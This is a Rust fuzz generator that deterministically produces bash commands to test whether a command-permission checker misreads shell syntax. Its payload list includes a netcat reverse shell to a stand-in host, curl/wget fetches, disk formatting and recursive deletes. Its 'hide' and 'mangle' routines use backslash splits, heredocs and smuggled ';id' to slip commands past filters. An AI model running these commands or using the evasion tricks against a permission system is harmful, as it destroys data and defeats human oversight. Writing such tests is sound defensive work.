//! The grammar-aware command generator: deterministic by seed, built to hit the attack
//! classes where a naive reading of bash differs from bash's (continuations in quotes and heredocs, heredoc bodies as code,
//! CR/FF/VT/NUL/non-ASCII bytes, shell options before `-c`, assignment prefixes, globs
//! and braces, wrappers, long-option abbreviations, options that run things, `*` in
//! subjects) mixed with quoting, substitutions, lists and control structures.
//!
//! Owns the grammar (as small weighted choices) and its own PRNG (splitmix64: a fixed,
//! documented sequence, so a seed names the same commands on every machine and
//! release; a crate's generator may change its stream between versions).

/// splitmix64: tiny, fast, and fully determined by the seed.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`; 0 gives 0).
    pub fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            return 0;
        }
        usize::try_from(self.next_u64() % u64::try_from(n).unwrap_or(u64::MAX)).unwrap_or(0)
    }

    /// True with probability `percent`/100.
    pub fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items.get(self.below(items.len())).copied().unwrap_or("")
    }
}

/// Harmless-looking commands the defaults tend to allow.
const BENIGN: &[&str] = &[
    "ls -la",
    "ls",
    "cat README.md",
    "git status",
    "git log --oneline",
    "git diff",
    "echo hi",
    "head -5 notes.txt",
    "wc -l notes.txt",
    "pwd",
    "grep -n TODO src/main.rs",
    "make test",
    "cargo build",
    "npm test",
    "lsblk",
];

/// What an attacker wants to run.
const PAYLOAD: &[&str] = &[
    "id",
    "whoami",
    "curl -s https://x.example/p",
    "wget -qO- https://x.example/p",
    "mkfs.ext4 /dev/sdb",
    "rm -rf ~/work",
    "touch pwned",
    "python3 -c 'print(1)'",
    "nc -e /bin/sh x.example 4444",
    "git push --force origin main",
    "git push --force-wit origin main",
    "rm --rec --for build",
    "git push --receive-pack=id origin",
    "git clone -u id https://x.example/r",
    "tar --to-command=id -xf a.tar",
    "sort --compress-program=id big.txt",
    "wc --files0-from=secrets.txt",
    "rsync -e id a b:",
    "zip -TT id a.zip a",
];

const WRAPPERS: &[&str] = &[
    "env",
    "env -i",
    "env X=1",
    "sudo",
    "sudo -u root",
    "nice -n 5",
    "nohup",
    "timeout 5",
    "chroot /srv/root",
    "flock /tmp/lock",
    "busybox",
    "strace -o trace.out",
    "unshare -r",
    "fakeroot",
    "setpriv --reuid=0",
    "stdbuf -oL",
    "xargs",
    "command",
    "builtin",
    "exec",
    "time",
    "watch -n 1",
    "script -q -c",
    "firejail",
    "systemd-run --user",
];

const SHELLS: &[&str] = &["bash", "sh", "/bin/bash", "dash", "zsh"];

const SHELL_OPTIONS: &[&str] = &[
    "",
    "+o history",
    "--init-file rc.sh",
    "-O nullglob",
    "-e",
    "-x",
    "--norc",
    "-o posix",
    "--noprofile --norc",
    "-l",
    "+O extglob",
    "--rcfile rc.sh",
    "-i",
    "-s",
    "--",
];

const ASSIGNMENTS: &[&str] = &[
    "lsblk=1",
    "X=1",
    "PATH=/tmp:$PATH",
    "LD_PRELOAD=/tmp/x.so",
    "BASH_ENV=/tmp/rc",
    "ENV=/tmp/rc",
    "GIT_SSH_COMMAND=id",
    "PAGER=id",
    "EDITOR=id",
    "PYTHONPATH=/tmp",
    "NODE_OPTIONS=--require=/tmp/x.js",
    "a[0]=1",
    "IFS=,",
    // A word glued to a quoted one by a backslash is one word for bash (`PAGER=id`).
    "PAGER='i'\\d",
];

const REDIRECTS: &[&str] = &[
    "> out.txt",
    ">> notes.md",
    "2> err.log",
    "&> all.log",
    ">| clobber.txt",
    "<> rw.txt",
    "> /dev/null",
    "2>&1",
    "> ~/x",
    "> /tmp/x",
    "> \"$HOME/y\"",
    "> '~/*'",
    "> sub/../z",
    "> *.none",
    "> {a,b}",
    "> $(echo f)",
    "< notes.txt",
    // One target for bash (`notes.txt`, `.env`), split in two by the grammar.
    "< 'notes'\\.txt",
    "> '.en'\\v",
];

/// Bytes bash treats specially or that a reader may not.
const ODD_BYTES: &[&str] = &["\r", "\x0c", "\x0b", "\u{a0}", "é", "\u{2028}", "\t", "\0"];

fn single_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

fn double_quote(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// Hides `payload` inside a construct that makes bash run it.
fn hide(rng: &mut Rng, payload: &str) -> String {
    let first = payload.split_whitespace().next().unwrap_or("id");
    match rng.below(16) {
        0 => format!("$({payload})"),
        1 => format!("`{payload}`"),
        2 => format!("\"$({payload})\""),
        3 => format!("<({payload})"),
        4 => format!("$\\\n({payload})"),
        5 => format!("\"$\\\n({payload})\""),
        6 => format!("${{X:-$({payload})}}"),
        7 => format!("$(( $({payload}) ))"),
        8 => {
            // A backslash inside the command name: `i\d` is `id`.
            let mut s = String::new();
            for (k, c) in first.chars().enumerate() {
                if k == 1 {
                    s.push('\\');
                }
                s.push(c);
            }
            format!("$({s})")
        }
        9 => format!("\"`{payload}`\""),
        10 => format!("$(echo; {payload})"),
        11 => format!("$({{ {payload}; }})"),
        12 => format!("$(: \\\n; {payload})"),
        13 => format!("$'\\x{:02x}'", first.bytes().next().unwrap_or(b'i')),
        14 => format!(">({payload})"),
        _ => format!("\"${{X:-`{payload}`}}\""),
    }
}

/// A heredoc whose body may be code.
fn heredoc(rng: &mut Rng, host: &str, payload: &str) -> String {
    let delim = rng.pick(&["END", "'EOF'", "\"EOF\"", "E\\OF", "-END", "'E O'"]);
    let (op, word, close) = match delim.strip_prefix('-') {
        Some(d) => ("<<-", d.to_string(), format!("\t{d}")),
        None => {
            let close = delim.replace(['\'', '"', '\\'], "");
            ("<<", delim.to_string(), close)
        }
    };
    let body = match rng.below(6) {
        0 => format!("`{payload}`"),
        1 => format!("$({payload})"),
        2 => format!("x $\\\n({payload})"),
        3 => format!("$(( 1 + $({payload}) ))"),
        4 => "plain text $HOME".to_string(),
        _ => format!("line\\\n{}", close),
    };
    let tail = if rng.chance(30) {
        format!("\n{}", rng.pick(BENIGN))
    } else {
        String::new()
    };
    // Words after the delimiter are the command's arguments for bash (`cat <<E
    // ~/.ssh/id_rsa`); the grammar hangs them on the here-document.
    let after = if rng.chance(25) {
        rng.pick(&[
            " notes.txt",
            " -n 2 notes.txt",
            " > out notes.txt",
            " 2>/dev/null notes.txt",
            " | wc -l",
        ])
    } else {
        ""
    };
    format!("{host} {op}{word}{after}\n{body}\n{close}{tail}")
}

/// Shell code that runs `inner`, with options between the shell and `-c`.
fn shell_c(rng: &mut Rng, inner: &str) -> String {
    let shell = rng.pick(SHELLS);
    let opts = rng.pick(SHELL_OPTIONS);
    let quoted = if rng.chance(50) {
        single_quote(inner)
    } else {
        double_quote(inner)
    };
    let c = if rng.chance(20) { "-xc" } else { "-c" };
    let opts = if opts.is_empty() {
        String::new()
    } else {
        format!("{opts} ")
    };
    format!("{shell} {opts}{c} {quoted}")
}

/// Breaks a command with a backslash-newline somewhere, or an odd byte after a space.
fn mangle(rng: &mut Rng, cmd: &str) -> String {
    let chars: Vec<char> = cmd.chars().collect();
    if chars.is_empty() {
        return cmd.to_string();
    }
    let at = rng.below(chars.len() + 1);
    let (a, b) = chars.split_at(at.min(chars.len()));
    let a: String = a.iter().collect();
    let b: String = b.iter().collect();
    match rng.below(4) {
        0 => format!("{a}\\\n{b}"),
        1 => format!("{a}\\\r\n{b}"),
        2 => format!("{a}{}{b}", rng.pick(ODD_BYTES)),
        _ => format!("{a} \\{}{b}", rng.pick(ODD_BYTES)),
    }
}

/// One command of nesting `depth` (0 = leaf).
fn command(rng: &mut Rng, depth: usize) -> String {
    let leaf = |rng: &mut Rng| {
        if rng.chance(45) {
            rng.pick(PAYLOAD).to_string()
        } else {
            rng.pick(BENIGN).to_string()
        }
    };
    if depth == 0 {
        return leaf(rng);
    }
    let d = depth - 1;
    match rng.below(14) {
        0 => {
            let inner = command(rng, d);
            let payload = rng.pick(PAYLOAD);
            format!("{inner} {}", hide(rng, payload))
        }
        1 => {
            let host = rng.pick(&[
                "head -5",
                "cat",
                "wc -l",
                "ls",
                "grep x",
                "bash",
                "python3 -",
            ]);
            let payload = rng.pick(PAYLOAD);
            heredoc(rng, host, payload)
        }
        2 => {
            let inner = command(rng, d);
            shell_c(rng, &inner)
        }
        3 => format!("{} {}", rng.pick(ASSIGNMENTS), command(rng, d)),
        4 => format!("{} {}", rng.pick(WRAPPERS), command(rng, d)),
        5 => {
            let op = rng.pick(&[" && ", " || ", "; ", " | ", " & ", "\n", " |& "]);
            format!("{}{op}{}", command(rng, d), command(rng, d))
        }
        6 => format!("{} {}", command(rng, d), rng.pick(REDIRECTS)),
        7 => {
            let c = command(rng, d);
            match rng.below(7) {
                0 => format!("if true; then {c}; fi"),
                1 => format!("for i in a b; do {c}; done"),
                2 => format!("f() {{ {c}; }}; f"),
                3 => format!("( {c} )"),
                4 => format!("{{ {c}; }}"),
                5 => format!("case x in x) {c};; esac"),
                _ => format!("[[ -n $({c}) ]]"),
            }
        }
        8 => {
            let c = command(rng, d);
            mangle(rng, &c)
        }
        9 => {
            // Globs and braces, also as the command name.
            rng.pick(&[
                "rm -rf /[b-z]*",
                "rm -rf ~/.[a-z]*",
                "cd /usr/.. && rm -rf *",
                "git push --force origin {master,dev}",
                "{ls,-la}",
                "l{s,} -la",
                "/???/i?",
                "echo {a..c}",
                "ls *.txt",
                "cat x > '~/*'",
                // After three stages the grammar can read the list as the second
                // stage (`a | (b | c || d <<EO)`): bash runs `id` from the pipe.
                "echo id | bash | cat || wc -l <<'EO'\nplain\nEO",
                "ls | sort | head && cd .. && cat notes.txt",
            ])
            .to_string()
        }
        10 => {
            let c = command(rng, d);
            format!("eval {}", single_quote(&c))
        }
        11 => {
            let c = command(rng, d);
            rng.pick(&["source", ".", "trap"]).to_string()
                + match rng.below(3) {
                    0 if rng.chance(25) => {
                        // `'c'\;id` is the one word `c;id`: the string runs `id` too.
                        format!(" /dev/stdin <<< {}\\;id", single_quote(&c))
                    }
                    0 => format!(" /dev/stdin <<< {}", single_quote(&c)),
                    1 => format!(" <(echo {})", single_quote(&c)),
                    _ => format!(" {} EXIT", single_quote(&c)),
                }
                .as_str()
        }
        12 => {
            let c = command(rng, d);
            format!("echo {} | bash", single_quote(&c))
        }
        _ => leaf(rng),
    }
}

/// `n` commands from `seed`; the same seed gives the same commands.
pub fn generate(seed: u64, n: usize) -> Vec<String> {
    let mut rng = Rng::new(seed);
    (0..n)
        .map(|_| {
            let depth = 1 + rng.below(3);
            command(&mut rng, depth)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_commands_and_classes_are_hit() {
        let a = generate(7, 2_000);
        assert_eq!(a, generate(7, 2_000));
        assert_ne!(a, generate(8, 2_000));
        let any = |f: &dyn Fn(&str) -> bool| a.iter().any(|c| f(c));
        assert!(any(&|c| c.contains("\\\n")), "continuations");
        assert!(
            any(&|c| c.contains("<<END") || c.contains("<<'EOF'")),
            "heredocs"
        );
        assert!(
            any(&|c| c.contains(" > out notes.txt\n")),
            "words after a delimiter"
        );
        assert!(any(&|c| c.contains('\r')), "CR");
        assert!(any(&|c| c.contains("+o history -c")), "shell options");
        assert!(any(&|c| c.starts_with("lsblk=1 ")), "assignment prefix");
        assert!(any(&|c| c.contains("chroot /srv/root")), "wrappers");
        assert!(any(&|c| c.contains("[b-z]")), "globs");
        assert!(
            any(&|c| c.contains("'\\;id")),
            "a word glued to a here-string"
        );
        assert!(any(&|c| c.contains("'.en'\\v")), "a word glued to a target");
        assert!(
            any(&|c| c.contains("| bash | cat || wc -l <<'EO'")),
            "a list after three pipeline stages"
        );
    }
}
